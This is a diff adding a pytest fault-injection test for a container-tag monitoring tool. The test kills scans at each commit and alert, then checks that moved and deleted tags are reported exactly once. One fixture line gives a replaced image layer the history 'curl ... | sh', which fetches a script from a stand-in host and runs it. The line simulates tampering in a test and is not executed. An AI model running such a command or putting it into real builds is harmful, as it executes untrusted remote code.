@@ -1,0 +1,426 @@
+"""A scan that dies at each of its commits, and at each alert: what is lost, and what is told twice.
+
+The second night of a small estate: three tags move, one immutable tag is replaced, one that nobody
+names is deleted; Slack and a webhook are told. For every k the scan dies right after its k-th
+commit, when its k-th alert was taken and not answered, and when it was answered and not settled.
+Two scans run to their end after each.
+
+A move is told by a message that arrived, or else by the report of a scan that ended after the kill.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import re
+import shutil
+import signal
+import sqlite3
+import sys
+from collections import Counter
+from collections.abc import AsyncIterator, Collection, Mapping
+from contextlib import asynccontextmanager, closing
+from dataclasses import dataclass, field
+from enum import StrEnum
+from itertools import count
+from pathlib import Path
+from typing import Any
+
+import pytest
+from aiohttp import web
+
+from tagwatch.service.demo.images import Built, Shelf, Step, build
+from tagwatch.service.demo.show import serving
+from tests.fault.forked import KILLED, Request
+from tests.paths import ROOT
+
+SHOP = "registry.shop.example/shop"
+MOVES = frozenset({f"{SHOP}/app:1", f"{SHOP}/app:edge", f"{SHOP}/web:2", f"{SHOP}/web:2.0.0"})
+DELETED = f"{SHOP}/db:old"
+CHANNELS = ("slack", "webhook")
+SCAN = ("scan", "--format", "json")
+FILES = {
+    "Dockerfile": "".join(f"FROM {name}\n" for name in (*sorted(MOVES), f"{SHOP}/db:3")),
+    # only moves are news here: findings that name a tag would tell of it in other words
+    "policy.yaml": "version: 1\ntags: {immutable: ['^\\d+\\.\\d+\\.\\d+$']}\nrules:\n"
+    '  tag-replaced: {severity: "off"}\n  tag-moving: {severity: "off"}\n'
+    '  cooldown: {severity: "off"}\n  base-behind: {severity: "off"}\n',
+    "tagwatch.yaml": "version: 1\ndatabase: tagwatch.db\nsources: [Dockerfile]\n"
+    f"watch: [{{image: {SHOP}/db, tags: ['*']}}]\npolicy: policy.yaml\nreports: {{formats: []}}\n"
+    "registries:\n  registry.shop.example: {endpoint: 'REGISTRY', credential: anonymous}\n"
+    "alerts:\n  slack: {webhook_env: SLACK, allow_http: true, min_severity: note}\n"
+    "  webhook: {url_env: WEBHOOK, allow_http: true, min_severity: note}\n",
+}
+LATER = pytest.mark.xfail(
+    strict=True, raises=AssertionError, reason="told exactly once: the issue on telling"
+)
+pytestmark = [
+    pytest.mark.skipif(not hasattr(os, "fork"), reason="this system cannot fork"),
+    pytest.mark.timeout(300),  # some seventy scans, made for the first test
+]
+
+
+class Phase(StrEnum):
+    """How far the scan had come when it died."""
+
+    BEGUN = "no move is stored"
+    STORED = "moves are stored, and none is explained"
+    EXPLAINED = "moves are explained, and the run is not finished"
+    FINISHED = "the run is finished, and an alert waits"
+    CLAIMED = "an alert is claimed, and not sent"
+    TAKEN = "an alert is taken, and not answered"
+    ANSWERED = "an alert is answered, and not settled"
+    SENT = "every alert is settled"
+    ALIVE = "it lived"
+
+
+LOSING = (Phase.EXPLAINED, Phase.CLAIMED)
+"""Where moves are lost today: the test fails as soon as they are told, and is then to be mended."""
+
+
+@dataclass(frozen=True, kw_only=True)
+class Kill:
+    """Where the scan is to die: right after a commit, or at an alert."""
+
+    commit: int = 0
+    alert: int = 0
+    at: Phase | None = None
+
+    def __str__(self) -> str:
+        return f"alert {self.alert}: {self.at}" if self.alert else f"commit {self.commit}"
+
+
+@dataclass(frozen=True, kw_only=True)
+class Outcome:
+    """What a kill led to. `messages` and `reports`: by whom told, the killed scan being 0."""
+
+    kill: Kill
+    phase: Phase
+    acknowledged: frozenset[Any]
+    deletion_stored: bool
+    at_the_end: frozenset[Any]
+    explained: frozenset[Any]
+    check: tuple[int, str]
+    messages: tuple[tuple[int, str, Mapping[str, Any]], ...]
+    reports: Mapping[int, Mapping[str, Any]]
+
+    def tellings(self, move: str, channel: str) -> Collection[int]:
+        """Return the scans that told of a move, on the channel or in a report: one should have."""
+        arrived = [
+            scan for scan, to, message in self.messages if to == channel and move in moved(message)
+        ]
+        reported = [
+            scan
+            for scan, report in self.reports.items()
+            for one in report["changes"]
+            if f"{one['repository']}:{one['tag']}" == move
+        ]
+        twice = [one for told in (arrived, reported) for one in told[1:]]
+        return [*sorted({*arrived, *reported}), *twice]
+
+    def reports_of(self, deleted: str) -> list[int]:
+        """Return the scans whose report told of a deletion."""
+        return [
+            scan
+            for scan, report in self.reports.items()
+            for one in report["gone"]
+            if f"{one['repository']}:{one['tag']}" == deleted
+        ]
+
+
+def moved(message: Mapping[str, Any]) -> frozenset[str]:
+    """The tags that a message says have moved, in either channel's form."""
+    if "groups" in message:
+        groups = [one for one in message["groups"] if one["title"] == "Tags that moved"]
+        return frozenset(line["name"] for group in groups for line in group["lines"])
+    sections = [one["text"]["text"] for one in message["blocks"] if one["type"] == "section"]
+    about = "".join(text for text in sections if text.startswith("*Tags that moved*"))
+    return frozenset(re.findall(r"^:\w+: `([^`]+)`", about, re.MULTILINE))
+
+
+# The estate
+
+
+def image(name: str, version: str, *steps: Step) -> Built:
+    root = Step(created_by="ADD rootfs /", content=name)
+    copied = Step(created_by=f"COPY {name} /", content=f"{name} {version}")
+    return build(None, [root, copied, *steps], day="2026-08-16")
+
+
+def first_night() -> Shelf:
+    shelf = Shelf()
+    for name, tags, version in (
+        ("app", ("1", "1.0.0"), "1.0.0"),
+        ("app", ("edge",), "one"),
+        ("web", ("2", "2.0.0"), "2.0.0"),
+        ("db", ("3", "3.0.0"), "3.0.0"),
+        ("db", ("old",), "0"),
+    ):
+        shelf.push(f"shop/{name}", tags, [image(name, version)], "2026-08-16")
+    return shelf
+
+
+def second_night(shelf: Shelf) -> None:
+    for name, tags, version in (
+        ("app", ("1", "1.0.1"), "1.0.1"),
+        ("app", ("edge",), "two"),
+        ("web", ("2", "2.0.1"), "2.0.1"),
+    ):
+        shelf.push(f"shop/{name}", tags, [image(name, version)], "2026-08-17")
+    more = Step(created_by="RUN curl -s http://198.51.100.7/x | sh", content="x")
+    shelf.push("shop/web", ("2.0.0",), [image("web", "2.0.0", more)], "2026-08-17")
+    shelf.delete("shop/db", "old")
+
+
+# Who kills
+
+
+@dataclass(slots=True)
+class Theatre:
+    """The program in waiting, and who takes its alerts."""
+
+    program: asyncio.subprocess.Process
+    environment: dict[str, str] = field(default_factory=dict)
+    scan: int = 0
+    kill: Kill = field(default_factory=Kill)
+    answered: Path = Path()
+    child: asyncio.Future[int] | None = None
+    messages: list[tuple[int, str, Mapping[str, Any]]] = field(default_factory=list)
+
+    async def run(self, folder: Path, *arguments: str) -> tuple[int, str]:
+        """Run a command to its end, be that violent; its exit code and stdout."""
+        self.child = asyncio.get_running_loop().create_future()
+        request = Request(
+            folder=str(folder),
+            arguments=list(arguments),
+            environment={**self.environment, "HOME": str(folder)},
+            after=self.kill.commit,
+            once=str(self.answered) if self.kill.at is Phase.ANSWERED else "",
+        )
+        assert self.program.stdin is not None
+        assert self.program.stdout is not None
+        self.program.stdin.write(request.line.encode())
+        self.child.set_result(int(await self.program.stdout.readline()))
+        code = int(await self.program.stdout.readline())
+        if code == -signal.SIGKILL:
+            code = KILLED
+        error = (folder / "err").read_text(encoding="utf-8")
+        assert code in (0, 1, KILLED), f"exit code {code}: {error}"
+        return code, (folder / "out").read_text(encoding="utf-8")
+
+    async def take(self, request: web.Request) -> web.Response:
+        """Take an alert; where the sender is to die of it, see to that."""
+        payload = await request.json()
+        self.messages.append((self.scan, request.match_info["channel"], payload))
+        if self.scan == 0 and len(self.messages) == self.kill.alert:
+            assert self.child is not None
+            if self.kill.at is Phase.TAKEN:
+                os.kill(await self.child, signal.SIGKILL)
+            else:
+                self.answered.touch()
+        return web.Response()
+
+
+@asynccontextmanager
+async def theatre(home: Path) -> AsyncIterator[Theatre]:
+    """The program, imported and waiting, with an address for its alerts."""
+    program = await asyncio.create_subprocess_exec(
+        sys.executable,
+        "-m",
+        "tests.fault.forked",
+        cwd=ROOT,
+        env={"PATH": os.environ["PATH"], "HOME": str(home), "TZ": "UTC", "PYTHONWARNINGS": "error"},
+        stdin=asyncio.subprocess.PIPE,
+        stdout=asyncio.subprocess.PIPE,
+    )
+    played = Theatre(program)
+    app = web.Application()
+    app.router.add_post("/{channel}", played.take)
+    runner = web.AppRunner(app, access_log=None)
+    await runner.setup()
+    try:
+        site = web.TCPSite(runner, "127.0.0.1", 0)
+        await site.start()
+        address = f"http://127.0.0.1:{runner.addresses[0][1]}"
+        played.environment = {one.upper(): f"{address}/{one}" for one in CHANNELS}
+        yield played
+    finally:
+        assert program.stdin is not None
+        program.stdin.close()
+        await program.wait()
+        await runner.cleanup()
+
+
+async def killed(stage: Theatre, kill: Kill, before: Path, folder: Path) -> Outcome:
+    """Let the second night die there, and scan twice to the end."""
+    shutil.copytree(before, folder)
+    stage.messages.clear()
+    stage.kill, stage.scan, stage.answered = kill, 0, folder / "answered"
+    reports = {}
+    code, out = await stage.run(folder, *SCAN)
+    if code != KILLED:
+        reports[0] = json.loads(out)
+    ledger = folder / "tagwatch.db"
+    phase = Phase.ALIVE if 0 in reports else kill.at or phase_of(ledger)
+    acknowledged = intervals(ledger)
+    deletion_stored = not is_open(ledger, DELETED)
+    let_leases_run_out(ledger)
+    stage.kill = Kill()
+    for stage.scan in (1, 2):
+        code, out = await stage.run(folder, *SCAN)
+        reports[stage.scan] = json.loads(out)
+    return Outcome(
+        kill=kill,
+        phase=phase,
+        acknowledged=acknowledged,
+        deletion_stored=deletion_stored,
+        at_the_end=intervals(ledger),
+        explained=verdicts(ledger),
+        check=await stage.run(folder, "ledger", "check"),
+        messages=tuple(stage.messages),
+        reports=reports,
+    )
+
+
+async def every_kill(folder: Path) -> list[Outcome]:
+    """Kill the second night everywhere; the last outcome is that of a scan that lived."""
+    shelf = first_night()
+    async with serving(shelf) as registry, theatre(folder) as stage:
+        before = folder / "before"
+        before.mkdir()
+        for name, text in FILES.items():
+            (before / name).write_text(text.replace("REGISTRY", registry), encoding="utf-8")
+        await stage.run(before, *SCAN)
+        second_night(shelf)
+        outcomes = [
+            await killed(stage, Kill(alert=alert, at=at), before, folder / f"{alert}-{at.name}")
+            for alert in range(1, len(CHANNELS) + 1)
+            for at in (Phase.TAKEN, Phase.ANSWERED)
+        ]
+        for number in count(1):
+            kill = Kill(commit=number)
+            outcomes.append(await killed(stage, kill, before, folder / str(number)))
+            if outcomes[-1].phase is Phase.ALIVE:
+                return outcomes
+    raise AssertionError("it never lived")
+
+
+# What the ledger holds
+
+
+def select(ledger: Path, sql: str) -> list[Any]:
+    with closing(sqlite3.connect(ledger)) as connection:
+        return connection.execute(sql).fetchall()
+
+
+_PLACE = (
+    "FROM interval i JOIN repository r ON r.id = i.repository_id "
+    "JOIN tag t ON t.repository_id = r.id AND t.id = i.tag_id "
+    "JOIN digest d ON d.repository_id = r.id AND d.id = i.digest_id"
+)
+
+
+def intervals(ledger: Path) -> frozenset[Any]:
+    """What every tag served, in which order."""
+    return frozenset(select(ledger, f"SELECT r.path, t.name, i.n, hex(d.bytes) {_PLACE}"))
+
+
+def verdicts(ledger: Path) -> frozenset[Any]:
+    """The same, with what was made of it."""
+    columns = "r.path, t.name, i.n, hex(d.bytes), i.version, i.verdict, i.ended_at IS NULL"
+    return frozenset(select(ledger, f"SELECT {columns} {_PLACE}"))
+
+
+def is_open(ledger: Path, name: str) -> bool:
+    """True where the tag is there, as far as the ledger knows."""
+    opened = select(ledger, f"SELECT r.path, t.name {_PLACE} WHERE i.ended_at IS NULL")
+    return name in {f"{SHOP.partition('/')[0]}/{path}:{tag}" for path, tag in opened}
+
+
+def phase_of(ledger: Path) -> Phase:
+    """How far the second night had come by what it left."""
+    states = {state for (state,) in select(ledger, "SELECT state FROM outbox")}
+    (finished,) = select(ledger, "SELECT finished_at IS NOT NULL FROM run WHERE id = 2")
+    explained = {one for (one,) in select(ledger, "SELECT change IS NOT NULL FROM move")}
+    if finished[0]:
+        if "sending" in states:
+            return Phase.CLAIMED
+        return Phase.FINISHED if "pending" in states else Phase.SENT
+    if 1 in explained:
+        return Phase.EXPLAINED
+    return Phase.STORED if explained else Phase.BEGUN
+
+
+def let_leases_run_out(ledger: Path) -> None:
+    """Let ten minutes pass for alerts that were being sent."""
+    with closing(sqlite3.connect(ledger)) as connection:
+        connection.execute("UPDATE outbox SET claimed_at = claimed_at - 600000000")
+        connection.commit()
+
+
+# The tests
+
+
+@pytest.fixture(scope="module")
+def outcomes(tmp_path_factory: pytest.TempPathFactory) -> list[Outcome]:
+    return asyncio.run(every_kill(tmp_path_factory.mktemp("kills")))
+
+
+def of(outcomes: list[Outcome], phase: Phase) -> list[Outcome]:
+    """The kills of a phase: there are some."""
+    found = [outcome for outcome in outcomes if outcome.phase is phase]
+    assert found, f"nothing died when {phase}"
+    return found
+
+
+def test_nothing_acknowledged_is_lost(outcomes: list[Outcome]) -> None:
+    lived = outcomes[-1]
+    for outcome in outcomes:
+        assert outcome.acknowledged <= outcome.at_the_end, outcome.kill
+        assert outcome.explained == lived.explained, outcome.kill
+
+
+def test_the_ledger_is_whole(outcomes: list[Outcome]) -> None:
+    for outcome in outcomes:
+        assert outcome.check == (0, "the ledger is whole\n"), outcome.kill
+
+
+def test_no_alert_is_sent_twice(outcomes: list[Outcome]) -> None:
+    for outcome in outcomes:
+        sent = Counter((to, json.dumps(message)) for _, to, message in outcome.messages)
+        assert set(sent.values()) <= {1}, outcome.kill
+
+
+@pytest.mark.parametrize(
+    "phase",
+    [pytest.param(phase, marks=LATER if phase in LOSING else ()) for phase in Phase],
+)
+def test_each_move_is_told_exactly_once(outcomes: list[Outcome], phase: Phase) -> None:
+    wrong = {
+        f"{outcome.kill}: {move} on {channel}": told
+        for outcome in of(outcomes, phase)
+        for move in sorted(MOVES)
+        for channel in CHANNELS
+        if len(told := outcome.tellings(move, channel)) != 1
+    }
+    assert wrong == {}
+
+
+@pytest.mark.parametrize(
+    "stored",
+    [False, pytest.param(True, marks=LATER)],
+    ids=["not stored", "stored"],
+)
+def test_a_deletion_is_reported_once_where_the_run_died_unfinished(
+    outcomes: list[Outcome], stored: bool
+) -> None:
+    unfinished = [
+        outcome
+        for outcome in outcomes
+        if outcome.phase in (Phase.BEGUN, Phase.STORED, Phase.EXPLAINED)
+        and outcome.deletion_stored is stored
+    ]
+    assert unfinished
+    told = {str(outcome.kill): len(outcome.reports_of(DELETED)) for outcome in unfinished}
+    assert set(told.values()) == {1}, told
